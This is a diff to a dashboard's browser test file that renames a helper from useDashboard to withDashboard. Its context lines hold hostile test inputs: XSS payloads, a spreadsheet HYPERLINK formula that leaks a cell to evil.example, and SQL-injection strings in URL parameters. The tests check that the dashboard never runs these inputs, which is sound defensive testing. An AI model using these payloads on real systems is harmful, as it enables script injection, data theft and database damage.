@@ -4,7 +4,7 @@ import { Table as WasmTable, writeParquet } from 'parquet-wasm';
 import { arrowTableFromColumns } from '../data/arrowTable';
 import { CONTRACT } from '../data/contract';
 import { districtFacts, fmt, readDemoTable } from './demoFacts';
-import { chooseFiles, download, useDashboard, waitForView } from './browser';
+import { chooseFiles, download, withDashboard, waitForView } from './browser';
 
 const IMG = '<img src=x onerror="window.__pwned=1">';
 const SCRIPT = '<script>window.__pwned=2</script>';
@@ -12,7 +12,7 @@ const SVG = '<svg onload="window.__pwned=3"><circle r=9 /></svg>';
 const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")';
 
 describe('hostile text in the data is shown as text everywhere and never runs', () => {
-  const w = useDashboard();
+  const w = withDashboard();
   const facts = districtFacts();
   const worst = [...facts].sort((a, b) => a.workforce / a.population - b.workforce / b.population || a.name.localeCompare(b.name));
   // The demo regions with four names replaced by attacks: the worst-served district, two others, and a province.
@@ -90,7 +90,7 @@ describe('hostile URL parameters are ignored with a notice, never an error page'
     year: '2020 OR 1=1', table: 'regions; DROP TABLE regions', sort: '-name; DROP', f_name: "%' OR '1'='1", page: '-5', size: '1e9',
     active: '20x', partner: "ngo'", programme: '<i>', need: "poverty_rate' --", 'Bad Key': 'x',
   });
-  const w = useDashboard(`?${q}`, { ready: ['[data-testid="kpi-population"]'] });
+  const w = withDashboard(`?${q}`, { ready: ['[data-testid="kpi-population"]'] });
 
   it('every parameter at once', async () => {
     const notice = await w.page.getByTestId('url-notice').innerText();
